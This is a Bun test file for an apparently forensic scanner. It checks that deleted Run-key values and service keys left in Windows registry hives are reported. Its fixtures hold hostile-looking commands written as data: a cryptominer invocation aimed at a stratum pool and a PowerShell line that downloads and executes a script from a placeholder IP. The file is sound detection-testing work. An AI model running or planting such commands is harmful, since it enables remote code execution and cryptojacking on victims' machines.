/** Autostarts and services that were deleted and still stand in their hives: told where they mined or fetched, else not. */
import { describe, expect, test } from 'bun:test';
import { hiveOf, opened } from '../../src/formats/registry/hive.fixture.ts';
import type { ScanResult } from '../../src/model/result.ts';
import { type Keys, scanSpec, treeOf, usualSoftware, usualSystem } from './windows-host.fixture.ts';

const run = 'Microsoft\\Windows\\CurrentVersion\\Run';
const services = 'ControlSet001\\Services';
const config = 'Windows/System32/config';
const miner = 'C:\\Windows\\System32\\winlogui.exe -o stratum+tcp://pool.example.com:3333 -u x -p x';

/** Marks a cell as free, as a deletion does. */
function release(bytes: Buffer, offset: number): void {
  const at = 4096 + offset;
  bytes.writeInt32LE(Math.abs(bytes.readInt32LE(at)), at);
}

/** The hive after a value of a key was deleted: its cells are free, the others move up in the list. */
function withoutValue(keys: Keys, path: string, name: string): Buffer {
  const bytes = hiveOf(treeOf(keys));
  const key = opened(bytes).key(path);
  const list = key?.valueListCell;
  if (key === undefined || list === undefined) throw new Error('no such key');
  const values = [...key.values()];
  const gone = values.find((value) => value.name === name);
  if (gone?.dataCell === undefined) throw new Error('no such value');
  release(bytes, gone.dataCell);
  release(bytes, gone.offset);
  const kept = values.filter((value) => value !== gone);
  for (const [index, { offset }] of kept.entries()) bytes.writeUInt32LE(offset, 4096 + list + 4 + index * 4);
  bytes.writeUInt32LE(kept.length, 4096 + key.offset + 4 + 36);
  return bytes;
}

/** The hive after the last of the subkeys of a key was deleted with its values. */
function withoutKey(keys: Keys, parent: string, name: string): Buffer {
  const bytes = hiveOf(treeOf(keys));
  const hive = opened(bytes);
  const key = hive.key(`${parent}\\${name}`);
  const above = hive.key(parent);
  if (key?.valueListCell === undefined || above === undefined) throw new Error('no such key');
  for (const value of key.values()) {
    if (value.dataCell !== undefined) release(bytes, value.dataCell);
    release(bytes, value.offset);
  }
  release(bytes, key.valueListCell);
  release(bytes, key.offset);
  const at = 4096 + above.offset + 4;
  const list = 4096 + bytes.readUInt32LE(at + 28);
  const count = bytes.readUInt32LE(at + 20) - 1;
  bytes.writeUInt16LE(count, list + 6);
  bytes.writeUInt32LE(count, at + 20);
  return bytes;
}

const accused = (result: ScanResult): readonly string[] =>
  result.persistence
    .filter(({ judgement }) => judgement === 'suspicious' || judgement === 'malicious')
    .map(
      ({ mechanism, name, judgement, active, trigger, reasons }) =>
        `${judgement} ${mechanism} ${name} ${active} ${trigger}: ${reasons.map(({ id }) => id).join(' ')}`,
    );

const withRun = (command: string): Keys => ({
  ...usualSoftware,
  [run]: { SecurityHealth: '%windir%\\system32\\SecurityHealthSystray.exe', zz: command },
});

describe('deleted autostarts', () => {
  test('a miner that was taken out of a Run key is a trace that does not run', async () => {
    const hive = withoutValue(withRun(miner), run, 'zz');
    const result = await scanSpec({ files: { [`${config}/SOFTWARE`]: hive } });
    expect(accused(result)).toEqual(['suspicious run-key zz false deleted: miner-command']);
    const told = result.persistence.find(({ name }) => name === 'zz');
    expect(told?.text).toContain('(deleted)');
    expect(told?.source).toBe('C:\\Windows\\System32\\config\\SOFTWARE');
  });

  test('a service that fetched what it ran is told with the path of its key', async () => {
    const keys: Keys = {
      ...usualSystem,
      [`${services}\\zzUpdate`]: {
        Type: 16,
        Start: 2,
        ImagePath: 'cmd /c powershell -c "IEX (irm http://192.0.2.7/a.ps1)"',
      },
    };
    const hive = withoutKey(keys, services, 'zzUpdate');
    const result = await scanSpec({ files: { [`${config}/SYSTEM`]: hive } });
    expect(accused(result)).toEqual(['suspicious windows-service zzUpdate false deleted: fetch-and-run']);
    expect(result.persistence.find(({ name }) => name === 'zzUpdate')?.text).toContain(
      'ControlSet001\\Services\\zzUpdate',
    );
  });

  test.each([
    ['an honest program', '"C:\\Program Files\\Slack\\slack.exe" --startup'],
    [
      'an updater in a profile',
      'C:\\Users\\Administrator\\AppData\\Local\\Teams\\Update.exe --processStart Teams.exe',
    ],
    ['what somebody typed into a list', `${miner}\\1`],
  ])('of %s nothing is told, and the host is clean', async (_, command) => {
    const hive = withoutValue(withRun(command), run, 'zz');
    const result = await scanSpec({ files: { [`${config}/SOFTWARE`]: hive } });
    expect(result.persistence.filter(({ trigger }) => trigger === 'deleted')).toEqual([]);
    expect(result.verdict).toBe('clean');
  });

  test('an older copy of what still runs is not told twice', async () => {
    const hive = withoutValue({ ...withRun(miner), [run]: { a: miner, zz: miner } }, run, 'zz');
    const result = await scanSpec({ files: { [`${config}/SOFTWARE`]: hive } });
    expect(accused(result)).toEqual(['malicious run-key a true login: miner-command']);
  });

  test('free cells that point anywhere end nothing, and what is in force is told all the same', async () => {
    const hive = withoutValue(withRun(miner), run, 'zz');
    const random = (seed: number): number => (Math.imul(seed, 1_103_515_245) + 12_345) >>> 0;
    let seed = 7;
    const size = hive.length;
    // A bin that is one free cell, full of heads of keys and values with whatever behind them.
    const bin = Buffer.alloc(65_536);
    bin.write('hbin', 0, 'latin1');
    bin.writeUInt32LE(size - 4096, 4);
    bin.writeUInt32LE(bin.length, 8);
    bin.writeInt32LE(bin.length - 32, 32);
    for (let at = 40; at + 88 < bin.length; at += 88) {
      for (let byte = 0; byte < 88; byte += 4) {
        seed = random(seed);
        bin.writeUInt32LE(seed, at + byte);
      }
      bin.writeInt32LE(-88, at);
      bin.write(at % 16 === 0 ? 'nk' : 'vk', at + 4, 'latin1');
    }
    const grown = Buffer.concat([hive, bin]);
    grown.writeUInt32LE(grown.length - 4096, 40);
    const result = await scanSpec({
      files: { [`${config}/SOFTWARE`]: grown },
      system: { [`${services}\\zz`]: { Type: 16, Start: 2, ImagePath: miner } },
    });
    expect(accused(result)).toContain('malicious windows-service zz true boot: miner-command');
    expect(accused(result)).toContain('suspicious run-key zz false deleted: miner-command');
  });
});
